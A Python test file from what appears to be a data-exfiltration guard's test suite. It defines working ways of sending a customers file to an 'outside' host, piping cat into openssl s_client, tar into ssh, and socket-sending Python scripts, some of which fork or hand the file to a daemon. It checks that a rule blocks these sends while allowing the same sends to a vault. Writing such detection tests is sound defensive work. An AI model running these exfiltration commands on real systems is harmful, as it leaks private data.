# Copyright (c) 2026 the exfil.guard authors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""How data leaves in practice, by the programs that people use for it, each to the outside and, the same, to the vault:
one rule on `has_read` has to stop the first and to let the second pass."""

import contextlib
import os
import pwd
import shlex
import shutil
import socket
import subprocess
import sys
import time

from harness.receiver import MARK
from harness.testbed import HERE

from techniques.flows import sending, services
from techniques.registry import Absent, appears, arrives, technique

TLS_PORT, SSH_PORT = 4433, 2222


def tool(*names):
    """The first that there is: brought along, or the machine's own."""
    for name in names:
        found = f"{HERE}/{name}" if os.path.exists(f"{HERE}/{name}") else shutil.which(name)
        if found:
            return found
    raise Absent(f"no {' or '.join(names)} on this machine")


def environment():
    """Libraries that were brought along are beside the programs."""
    return (
        {**os.environ, "LD_LIBRARY_PATH": HERE, "OPENSSL_CONF": "/dev/null", "HOME": "/tmp"}
        if os.path.exists(f"{HERE}/openssl")
        else dict(os.environ)
    )


def run(*command, **more):
    subprocess.run(command, check=True, env=environment(), stderr=subprocess.DEVNULL, stdout=subprocess.DEVNULL, **more)


def to(t):
    """(address, what the name of an arrived mark begins with)"""
    return (t.vault4, "vault-") if t.technique.group == "allowed" else (t.outside4, "")


def at_the_vault(t):
    return os.path.exists(f"{t.arrived_folder}/vault-{t.mark}")


def arrived(t):
    return at_the_vault(t) if t.technique.group == "allowed" else arrives(t)


def until_it_arrives(t, command, seconds=12):
    """A pipeline of the shell's, as long as it runs and nothing has come."""
    with open(t.log, "ab") as log:
        one = subprocess.Popen(
            ["/bin/sh", "-c", command],
            stdin=subprocess.DEVNULL,
            stdout=log,
            stderr=log,
            env=environment(),
            start_new_session=True,
        )
    ends = time.monotonic() + seconds
    while one.poll() is None and not arrived(t) and time.monotonic() < ends:
        time.sleep(0.02)
    with contextlib.suppress(ProcessLookupError):
        os.killpg(one.pid, 9)
    one.wait()


# ---- cat FILE | openssl s_client -------------------------------------------------------------------------------------


def tls_server(t):
    openssl, folder = tool("openssl"), t.base + "/tls"
    key, certificate = folder + "/key", folder + "/certificate"
    if not os.path.exists(certificate):
        os.makedirs(folder, exist_ok=True)
        with open(folder + "/configuration", "w", encoding="ascii") as file:
            file.write("[req]\ndistinguished_name = name\n[name]\n")
        run(
            openssl,
            "req",
            "-x509",
            "-newkey",
            "ec",
            "-pkeyopt",
            "ec_paramgen_curve:prime256v1",
            "-nodes",
            "-subj",
            "/CN=outside",
            "-days",
            "2",
            "-config",
            folder + "/configuration",
            "-keyout",
            key,
            "-out",
            certificate,
        )
    address, before = to(t)

    def serve():
        server = subprocess.Popen(
            [openssl, "s_server", "-accept", f"{address}:{TLS_PORT}", "-key", key, "-cert", certificate, "-quiet"],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            stderr=subprocess.DEVNULL,
            env=environment(),
        )
        seen = b""
        while True:
            seen += server.stdout.read1(65536)
            for mark in MARK.findall(seen):
                os.close(os.open(f"{t.arrived_folder}/{before}{mark.decode()}", os.O_CREAT | os.O_WRONLY, 0o666))

    t.helper(serve)
    listens(address, TLS_PORT)


def listens(address, port):
    for _ in range(600):
        with socket.socket() as one:
            if one.connect_ex((address, port)) == 0:
                return
        time.sleep(0.02)
    raise OSError(111, f"nobody listens on {address}:{port}")


def cat_into_openssl(t):
    until_it_arrives(t, f"cat {t.customers} | {tool('openssl')} s_client -quiet -connect {to(t)[0]}:{TLS_PORT}")


# ---- tar FOLDER | ssh HOST -------------------------------------------------------------------------------------------


def ssh_server(t):
    """Carol lets bob in: by the machine's own server, or by a small one."""
    if not os.path.exists(f"{HERE}/dropbear") and not t.systemd:
        raise Absent("no ssh on this machine")
    key, home = t.base + "/ssh-key", pwd.getpwnam(t.names["carol"]).pw_dir
    folder = home.rstrip("/") + "/.ssh"
    if t.systemd:
        if not os.path.exists(key):
            run(tool("ssh-keygen"), "-q", "-t", "ed25519", "-N", "", "-f", key)
        with open(key + ".pub", encoding="ascii") as file:
            public = file.read()
    else:
        for path in (key, t.base + "/ssh-host"):
            if not os.path.exists(path):
                run(tool("dropbearkey"), "-t", "ed25519", "-f", path)
        told = subprocess.run(
            [tool("dropbearkey"), "-y", "-f", key], env=environment(), stdout=subprocess.PIPE, check=True
        )
        public = next(line for line in told.stdout.decode().splitlines() if line.startswith("ssh-")) + "\n"
    os.chown(key, t.users["bob"], t.users["bob"])
    os.makedirs(folder, exist_ok=True)
    with open(folder + "/authorized_keys", "w", encoding="ascii") as file:
        file.write(public)
    if not t.systemd:
        os.chmod(home, 0o755)  # her keys would not be believed
        t.helper(
            lambda: subprocess.run(
                [
                    tool("dropbear"),
                    "-F",
                    "-E",
                    "-s",
                    "-r",
                    t.base + "/ssh-host",
                    "-P",
                    "/run/adversary/ssh-pid",
                    "-p",
                    f"{to(t)[0]}:{SSH_PORT}",
                ],
                env=environment(),
                check=True,
            )
        )
    listens(to(t)[0], 22 if t.systemd else SSH_PORT)


def over_ssh(t, command):
    """What makes the shell run a command there, as carol."""
    if t.systemd:
        client = f"{tool('ssh')} -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null"
    else:
        client = f"{tool('dbclient')} -y -y -p {SSH_PORT}"
    return f"{client} -i {t.base}/ssh-key {t.names['carol']}@{to(t)[0]} {shlex.quote(command)}"


def tar_into_ssh(t):
    there = f"grep -a -o 'mark-[0-9a-f]*' | while read -r mark; do : >{t.arrived_folder}/{to(t)[1]}$mark; done"
    until_it_arrives(
        t, f"{tool('tar')} -cf - -C {t.customers_folder} {os.path.basename(t.customers)} | {over_ssh(t, there)}"
    )


@services("ssh to localhost", ready=ssh_server)
def ssh_to_localhost(t):
    until_it_arrives(t, over_ssh(t, shlex.join(sending(t, t.customers))))


# ---- a script --------------------------------------------------------------------------------------------------------

ONE_PROCESS = """
import socket, sys
data = open(sys.argv[1], "rb").read()
socket.create_connection((sys.argv[2], int(sys.argv[3])), 4).sendall(data)
"""
PARENT_AND_CHILD = """
import os, socket, sys
data = open(sys.argv[1], "rb").read()
if os.fork() == 0:
    socket.create_connection((sys.argv[2], int(sys.argv[3])), 4).sendall(data)
    os._exit(0)
sys.exit(os.waitstatus_to_exitcode(os.wait()[1]))
"""
DAEMON = """
import os, socket, sys
one = socket.socket(socket.AF_UNIX)
one.bind(sys.argv[1])
os.chmod(sys.argv[1], 0o777)
one.listen(1)
descriptor = socket.recv_fds(one.accept()[0], 1, 1)[1][0]
data = os.read(descriptor, 65536)
socket.create_connection((sys.argv[2], int(sys.argv[3])), 4).sendall(data)
"""
HANDS_OVER = """
import os, socket, sys
one = socket.socket(socket.AF_UNIX)
one.connect(sys.argv[4])
socket.send_fds(one, [b"x"], [os.open(sys.argv[1], os.O_RDONLY)])
"""


def script(text):
    def function(t):
        more = [t.kept["address"]] if "address" in t.kept else []
        until_it_arrives(t, shlex.join([sys.executable, "-c", text, t.customers, to(t)[0], str(t.port), *more]), 6)

    return function


def daemon(t):
    t.kept["address"] = f"{t.run}/{t.technique.name}.sock"
    with contextlib.suppress(FileNotFoundError):
        os.unlink(t.kept["address"])
    t.helper(
        lambda: os.execv(sys.executable, [sys.executable, "-c", DAEMON, t.kept["address"], to(t)[0], str(t.port)]),
        "nobody",
    )
    appears(t.kept["address"])


for _name, _what, _function, _ready in (
    ("cat_into_openssl", "cat FILE | openssl s_client -connect HOST", cat_into_openssl, tls_server),
    ("tar_into_ssh", "tar -c FOLDER | ssh HOST", tar_into_ssh, ssh_server),
    ("python_reads_and_sends", "a Python script reads and sends, in one process", script(ONE_PROCESS), None),
    ("parent_reads_child_sends", "a parent reads, its child sends", script(PARENT_AND_CHILD), None),
    ("daemon_is_handed_the_file", "the open file is passed to a daemon, which sends", script(HANDS_OVER), daemon),
):
    for _prefix, _group in (("", "stories"), ("vault_", "allowed")):

        def _one(t, function=_function):
            function(t)

        _one.__name__ = _prefix + _name
        technique(
            _group,
            _what + (", to the vault" if _prefix else ""),
            "has_read" if not _prefix else "none",
            who="bob",
            evidence=arrived,
            ready=_ready,
        )(_one)
